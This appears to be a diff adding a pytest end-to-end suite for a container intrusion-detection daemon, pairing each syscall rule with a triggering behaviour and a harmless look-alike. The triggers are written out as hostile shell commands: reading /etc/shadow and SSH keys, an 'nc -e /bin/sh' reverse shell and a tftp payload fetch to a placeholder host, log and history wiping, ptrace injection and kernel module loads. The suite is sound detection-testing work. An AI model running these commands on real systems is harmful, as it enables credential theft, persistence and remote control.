@@ -1,0 +1,341 @@
+"""Each default syscall rule against real containers: the behaviour fires it, a look-alike not.
+
+One in-process Daemon with the shipped rules (in-kernel syscall filtering as in production) for
+the module. The scenarios the selected tests need run first, a few at a time; each test then reads
+its container's findings from the daemon's API. A negative test also checks that the look-alike
+really happened (its witness event was seen), so it cannot pass by doing nothing.
+"""
+
+from __future__ import annotations
+
+import subprocess
+import urllib.request
+import uuid
+from collections.abc import Iterator
+from dataclasses import dataclass
+
+import pytest
+
+from cauditd.events import Event, ExecEvent
+from cauditd.rules import default_rules_dir, load_ruleset
+from tests.conftest import (
+    Containers,
+    DaemonThread,
+    daemon_config,
+    docker_problem,
+    ebpf_problem,
+    unavailable,
+)
+from tests.rules_e2e.lab import Lab, Ran, Scenario, Witness, execd, file_op, sh, syscall
+
+SYSCALL_RULES = sorted(r.name for r in load_ruleset([default_rules_dir()]).rules
+                       if r.source == "syscall")  # fmt: skip
+
+PRIV = ("--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined")
+PTRACE = ("--cap-add", "SYS_PTRACE")
+MODULE = ("--cap-add", "SYS_MODULE", "--security-opt", "seccomp=unconfined")
+OPENS = ("open", "openat", "openat2", "creat")
+SYMLINKS = ("symlink", "symlinkat")
+LINKS = ("link", "linkat")
+CHMODS = ("chmod", "fchmod", "fchmodat", "fchmodat2")
+RENAMES = ("rename", "renameat", "renameat2")
+# A host on no network these containers have (they run with --network none): the connect
+# syscall happens, no packet leaves.
+NOWHERE = "10.99.0.1"
+SLEEPER = ("sleep", "30")
+
+
+@dataclass(frozen=True)
+class Case:
+    """A rule, a scenario that must fire it with output field `field` = `value`, and a
+    look-alike scenario that must not fire it, whose `witness` event proves it happened."""
+
+    rule: str
+    positive: Scenario
+    field: str
+    value: str
+    negative: Scenario
+    witness: Witness
+    label: str = ""
+    xfail: str = ""  # why the positive is a known miss (strict: it must keep failing)
+
+
+def exec_of(exe: str) -> Witness:
+    return lambda ev: isinstance(ev, ExecEvent) and ev.exe == exe
+
+
+def exec_in(exe: str, cwd: str) -> Witness:
+    return lambda ev: isinstance(ev, ExecEvent) and ev.exe == exe and ev.cwd == cwd
+
+
+def second_shell(ev: Event) -> bool:
+    return (isinstance(ev, ExecEvent) and ev.exe == "/bin/sh"
+            and ev.argv == ("/bin/sh", "-c", "true"))  # fmt: skip
+
+
+NETCAT_PLAIN = sh(f"/usr/bin/nc -w 1 {NOWHERE} 4445 </dev/null")
+PTRACE_ATTACH = Scenario(("cauditd_probe", "ptrace"), PTRACE)
+SSH_KEY = (
+    "mkdir -p /home/app/.ssh; echo k > /home/app/.ssh/id_rsa; echo p > /home/app/.ssh/id_rsa.pub"
+)
+SHM_EXEC = ("--tmpfs", "/dev/shm:rw,exec")  # Docker's own /dev/shm is noexec: exec would fail
+NEWUTS = 0x04000000
+
+CASES: list[Case] = [
+    # files.toml
+    Case("Read sensitive file untrusted",
+         sh("/bin/cat /etc/shadow >/dev/null"), "fd.name", "/etc/shadow",
+         sh("/bin/cat /etc/passwd >/dev/null"), file_op(OPENS, "/etc/passwd"), "shadow"),
+    Case("Read sensitive file untrusted",
+         sh(f"{SSH_KEY}; /bin/cat /home/app/.ssh/id_rsa"), "fd.name", "/home/app/.ssh/id_rsa",
+         sh(f"{SSH_KEY}; /bin/cat /home/app/.ssh/id_rsa.pub"),
+         file_op(OPENS, "/home/app/.ssh/id_rsa.pub"), "ssh-key"),
+    Case("Write below etc",
+         sh("/bin/cp /etc/passwd /etc/passwd.new"), "fd.name", "/etc/passwd.new",
+         sh("/bin/cp /etc/passwd /tmp/passwd.new"), file_op(OPENS, "/tmp/passwd.new"), "open"),
+    Case("Write below etc",
+         sh("echo x > /tmp/p; /bin/mv /tmp/p /etc/ld.so.preload"),
+         "evt.arg.newpath", "/etc/ld.so.preload",
+         sh("echo x > /tmp/p; /bin/mv /tmp/p /tmp/q"), file_op(RENAMES, "/tmp/p"), "rename"),
+    Case("Write below binary dir",
+         sh("/bin/cp /bin/busybox /usr/bin/cauditd-dropped"),
+         "fd.name", "/usr/bin/cauditd-dropped",
+         sh("/bin/cp /bin/busybox /tmp/cauditd-tool"), file_op(OPENS, "/tmp/cauditd-tool")),
+    Case("Create files below dev",
+         sh("echo x > /dev/cauditd-payload"), "fd.name", "/dev/cauditd-payload",
+         sh("echo x > /dev/null; echo x > /dev/shm/cauditd-ok"),
+         file_op(OPENS, "/dev/shm/cauditd-ok")),
+    Case("Create symlink over sensitive files",
+         sh("/bin/ln -s /etc/shadow /tmp/cauditd-link"), "evt.arg.target", "/etc/shadow",
+         sh("/bin/ln -s /etc/passwd /tmp/cauditd-link"), file_op(SYMLINKS, "/etc/passwd")),
+    Case("Create hardlink over sensitive files",
+         sh("/bin/ln /etc/shadow /tmp/cauditd-hard"), "evt.arg.oldpath", "/etc/shadow",
+         sh("/bin/ln /etc/passwd /tmp/cauditd-hard"), file_op(LINKS, "/etc/passwd")),
+    Case("Clear log activities",
+         sh("echo x >> /var/log/app.log; /bin/rm /var/log/app.log"),
+         "fd.name", "/var/log/app.log",
+         sh("echo x >> /var/log/app.log"), file_op(OPENS, "/var/log/app.log")),
+    Case("Delete or truncate shell history",
+         sh("echo ls >> /root/.ash_history; /bin/rm /root/.ash_history"),
+         "fd.name", "/root/.ash_history",
+         sh("echo ls >> /root/.ash_history"), file_op(OPENS, "/root/.ash_history")),
+    Case("Cron configuration changed",
+         sh("/bin/mkdir -p /etc/cron.d; echo '* * * * * root id' > /etc/cron.d/cauditd"),
+         "fd.name", "/etc/cron.d/cauditd",
+         sh("echo '* * * * * root id' > /tmp/crontab"), file_op(OPENS, "/tmp/crontab")),
+    Case("Read environment variables from /proc",
+         sh("/bin/cat /proc/1/environ >/dev/null"), "fd.name", "/proc/1/environ",
+         sh("/bin/cat /proc/1/status >/dev/null"), file_op(OPENS, "/proc/1/status")),
+    # network_syscalls.toml
+    Case("Packet socket created in container",
+         Scenario(("cauditd_attack", "packet")), "proc.cmdline", "cauditd_attack packet",
+         Scenario(("cauditd_attack", "udp")), syscall("socket", domain=2, type=2)),
+    Case("Connection to mining pool port",
+         Scenario(("cauditd_probe", "connect", NOWHERE, "3333")), "fd.dport", "3333",
+         Scenario(("cauditd_probe", "connect", NOWHERE, "8080")),
+         lambda ev: ev.type == "connect" and getattr(ev, "port", 0) == 8080),
+    Case("Contact cloud metadata service from container",
+         Scenario(("cauditd_probe", "connect", "169.254.169.254", "80")),
+         "fd.dip", "169.254.169.254",
+         Scenario(("cauditd_probe", "connect", NOWHERE, "80")),
+         lambda ev: ev.type == "connect" and getattr(ev, "addr", "") == NOWHERE),
+    Case("Redirect stdio to network connection",
+         Scenario(("cauditd_probe", "dupsock")), "evt.arg.newfd", "2",
+         Scenario(("cauditd_attack", "dupfile")), syscall("dup2", newfd=1), "file-on-stdout"),
+    Case("Redirect stdio to network connection",
+         Scenario(("cauditd_probe", "dupsock")), "evt.arg.newfd", "2",
+         Scenario(("cauditd_attack", "dupsock-high")),
+         syscall("socket", domain=2, type=1), "socket-on-fd10"),  # dup2 onto fd>2: not emitted
+    # privilege.toml
+    Case("Set setuid or setgid bit",
+         sh("/bin/touch /tmp/f; /bin/chmod u+s /tmp/f"), "fd.name", "/tmp/f",
+         sh("/bin/touch /tmp/f; /bin/chmod 755 /tmp/f"), file_op(CHMODS, "/tmp/f")),
+    Case("Namespace change in container",
+         Scenario(("cauditd_probe", "unshare"), PRIV), "evt.type", "unshare",
+         Scenario(SLEEPER, execs=(("/bin/true",),)), execd("/bin/true"), "unshare"),
+    Case("Namespace change in container",
+         Scenario(("cauditd_probe", "setns"), PRIV), "evt.arg.nstype", str(NEWUTS),
+         Scenario(SLEEPER, execs=(("/bin/true",),)), execd("/bin/true"), "setns"),
+    Case("Mount in container",
+         sh("/bin/mount -t tmpfs cauditd-tmpfs /tmp", options=PRIV), "evt.arg.fstype", "tmpfs",
+         sh("/bin/mount >/dev/null", options=PRIV), exec_of("/bin/mount")),
+    Case("PTRACE attached to process",
+         PTRACE_ATTACH, "evt.arg.request", "16",
+         Scenario(("cauditd_attack", "traceme")), syscall("ptrace", request=0)),
+    Case("PTRACE code injection",
+         Scenario(("cauditd_attack", "poke"), PTRACE), "evt.arg.request", "5",
+         PTRACE_ATTACH, syscall("ptrace", request=16)),
+    Case("Linux kernel module load",
+         Scenario(("cauditd_attack", "module"), MODULE), "evt.type", "finit_module",
+         sh("/sbin/lsmod >/dev/null", options=MODULE), exec_of("/sbin/lsmod")),
+    # process.toml
+    Case("Shell spawned by non-shell in container",
+         Scenario(("cauditd_attack", "spawn", "/bin/sh", "-c", "true")),
+         "proc.pname", "cauditd_attack",
+         sh("/bin/sh -c true"), second_shell, "spawned"),
+    Case("Shell spawned by non-shell in container",
+         Scenario(SLEEPER, execs=(("sh", "-c", "true"),)), "proc.name", "sh",
+         sh("/bin/sh -c true"), second_shell, "docker-exec"),
+    Case("Fileless execution via memfd",
+         Scenario(("cauditd_probe", "memfd")), "proc.cmdline", "3 1",  # named by /dev/fd/3
+         Scenario(("cauditd_attack", "memfd-noexec")), execd("/bin/true"), "in-place"),
+    Case("Fileless execution via memfd",
+         Scenario(("cauditd_attack", "memfd-exec")), "proc.pname", "cauditd_attack",
+         Scenario(("cauditd_attack", "memfd-noexec")), execd("/bin/true"), "forked-child",
+         xfail="the probe keys memfds by tgid (memfd_fds), so a forked child's fexecve of its "
+               "parent's memfd is not flagged, and its argv is not joined either; the "
+               "/proc/<pid>/exe fallback loses the race with a short-lived child"),
+    Case("Drop and execute new binary in container",
+         sh("/bin/cp /bin/busybox /tmp/true && /tmp/true"), "proc.exepath", "/tmp/true",
+         sh("/bin/true"), execd("/bin/true")),
+    Case("Execution from /dev/shm",
+         sh("/bin/cp /bin/busybox /dev/shm/true && /dev/shm/true", options=SHM_EXEC),
+         "proc.exepath", "/dev/shm/true",
+         sh("cd /dev/shm && /bin/true"), exec_in("/bin/true", "/dev/shm")),
+    Case("Netcat remote code execution in container",
+         sh(f"/usr/bin/nc -w 1 -e /bin/sh {NOWHERE} 4445"),
+         "proc.cmdline", f"nc -w 1 -e /bin/sh {NOWHERE} 4445",
+         NETCAT_PLAIN, exec_of("/usr/bin/nc")),
+    Case("Package management process launched in container",
+         sh("/usr/bin/dpkg -l >/dev/null"), "proc.cmdline", "dpkg -l",
+         Scenario(("dpkg", "-l")), exec_of("/usr/bin/dpkg"), "entrypoint-is-fine"),
+    Case("Remote file copy tool launched in container",
+         sh(f"/usr/bin/tftp -g -r payload {NOWHERE}"),
+         "proc.cmdline", f"tftp -g -r payload {NOWHERE}",
+         sh("/bin/cp /etc/passwd /tmp/p"), exec_of("/bin/cp")),
+    Case("Network tool launched in container",
+         NETCAT_PLAIN, "proc.cmdline", f"nc -w 1 {NOWHERE} 4445",
+         sh(f"/usr/bin/wget -q -T 1 -O /dev/null http://{NOWHERE}:4445/"),
+         exec_of("/usr/bin/wget")),
+    Case("Search for private keys or passwords",
+         sh("/bin/grep -r 'BEGIN RSA PRIVATE' /etc"),
+         "proc.cmdline", "grep -r BEGIN RSA PRIVATE /etc",
+         sh("/bin/grep -r error /etc"), exec_of("/bin/grep"), "grep"),
+    Case("Search for private keys or passwords",
+         sh("/usr/bin/find /root /etc -name id_rsa"),
+         "proc.cmdline", "find /root /etc -name id_rsa",
+         sh("/usr/bin/find /root /etc -name '*.conf'"), exec_of("/usr/bin/find"), "find"),
+    Case("Decoding base64 payload in container",
+         sh("echo aGVsbG8= | /bin/base64 -d"), "proc.cmdline", "base64 -d",
+         sh("echo hello | /bin/base64"), exec_of("/bin/base64")),
+    Case("Cron job scheduled",
+         sh("echo '* * * * * id' > /tmp/c; /usr/bin/crontab /tmp/c"),
+         "proc.cmdline", "crontab /tmp/c",
+         sh("/usr/bin/crontab -l"), exec_of("/usr/bin/crontab")),
+]  # fmt: skip
+
+
+def case_id(case: Case) -> str:
+    words = case.rule.lower().replace("/", "").split()
+    return "-".join(words[:5]) + (f"[{case.label}]" if case.label else "")
+
+
+POSITIVES = [
+    pytest.param(case, id=case_id(case),
+                 marks=[pytest.mark.xfail(reason=case.xfail, strict=True)] if case.xfail else [])
+    for case in CASES
+]  # fmt: skip
+
+
+ENTRYPOINT = sh(
+    "cat /etc/passwd >/dev/null; /bin/cat /etc/passwd >/dev/null; /bin/ls / >/dev/null;"
+    " echo x > /tmp/x; /bin/cp /tmp/x /tmp/y; /bin/mkdir -p /tmp/cache; /bin/rm /tmp/y;"
+    " /bin/sleep 0; /bin/date >/dev/null"
+)
+
+
+def selected_scenarios(items: list[pytest.Item]) -> list[Scenario]:
+    """The scenarios the selected tests of this module will read (run up front, in parallel)."""
+    scenarios: list[Scenario] = []
+    for item in items:
+        if not isinstance(item, pytest.Function) or item.module.__name__ != __name__:
+            continue
+        callspec = getattr(item, "callspec", None)
+        case = callspec.params.get("case") if callspec else None
+        if isinstance(case, Case):
+            scenarios.append(case.negative if "look_alike" in item.name else case.positive)
+        elif item.name.startswith("test_ordinary_entrypoint"):
+            scenarios.append(ENTRYPOINT)
+    return scenarios
+
+
+@pytest.fixture(scope="module")
+def lab(tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> Iterator[Lab]:
+    for problem in (ebpf_problem(), docker_problem()):
+        if problem:
+            unavailable(problem)
+    config = daemon_config(tmp_path_factory.mktemp("rules-e2e"), all_syscalls=False)
+    daemon = DaemonThread(config)
+    daemon.start()
+    box = Containers()
+    try:
+        the_lab = Lab(daemon, box)
+        the_lab.prepare(selected_scenarios(request.session.items))
+        yield the_lab
+    finally:
+        box.remove_all()
+        daemon.stop()
+
+
+def test_every_default_syscall_rule_has_a_case() -> None:
+    assert sorted({case.rule for case in CASES}) == SYSCALL_RULES
+
+
+@pytest.mark.parametrize("case", POSITIVES)
+def test_behaviour_fires_the_rule(lab: Lab, case: Case) -> None:
+    ran = lab.ran(case.positive)
+    found = lab.findings(ran, rule=case.rule)
+    assert found, lab.explain(ran)
+    for finding in found:
+        assert finding["container"]["full_id"] == ran.container_id
+        assert finding["container"]["name"] == ran.name
+        assert finding["container"]["image"] == "cauditd-test:latest"
+    values = [str(f["output_fields"].get(case.field)) for f in found]
+    assert case.value in values, lab.explain(ran)
+
+
+@pytest.mark.parametrize("case", CASES, ids=case_id)
+def test_look_alike_does_not_fire_the_rule(lab: Lab, case: Case) -> None:
+    ran = lab.ran(case.negative)
+    assert lab.saw(ran, case.witness), f"the look-alike did not happen:\n{lab.explain(ran)}"
+    assert lab.findings(ran, rule=case.rule) == [], lab.explain(ran)
+
+
+def test_ordinary_entrypoint_stays_below_warning(lab: Lab) -> None:
+    ran = lab.ran(ENTRYPOINT)
+    assert lab.saw(ran, file_op(OPENS, "/tmp/x")), lab.explain(ran)
+    assert lab.findings(ran, min_priority="warning") == [], lab.explain(ran)
+
+
+@pytest.fixture
+def bridge(docker: None) -> Iterator[str]:
+    """A Docker bridge network created for the test (no iptables: nothing leaves the host)."""
+    name = f"cauditd-t-net-{uuid.uuid4().hex[:8]}"
+    subprocess.run(["docker", "network", "create", name], check=True, capture_output=True)
+    try:
+        yield name
+    finally:
+        subprocess.run(["docker", "network", "rm", name], capture_output=True)
+
+
+def test_web_server_serving_stays_below_warning(lab: Lab, bridge: str) -> None:
+    web = Scenario(("sh", "-c", "mkdir -p /tmp/www && echo hello > /tmp/www/index.html"
+                    " && exec httpd -f -p 8080 -h /tmp/www"), network=bridge)  # fmt: skip
+    name = f"cauditd-t-{uuid.uuid4().hex[:10]}"
+    started = lab.containers.run(*web.command, name=name, detach=True,
+                                 options=("--network", bridge))  # fmt: skip
+    assert started.returncode == 0, started.stderr
+    address = subprocess.run(
+        ["docker", "inspect", "-f", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
+         name], capture_output=True, text=True, check=True,
+    ).stdout.strip()  # fmt: skip
+    client = lab.ran(Scenario(("wget", "-q", "-O", "-", f"http://{address}:8080/"), network=bridge))
+    assert client.stdout.strip() == "hello"
+    with urllib.request.urlopen(f"http://{address}:8080/", timeout=10) as resp:  # host -> bridge
+        assert resp.read().strip() == b"hello"
+    subprocess.run(["docker", "kill", name], capture_output=True, check=True)
+    served = Ran(name, lab.containers.inspect_id(name))
+    lab.settle(served)
+    lab.flush()
+    for ran in (served, client):
+        assert lab.findings(ran, min_priority="warning") == [], lab.explain(ran)
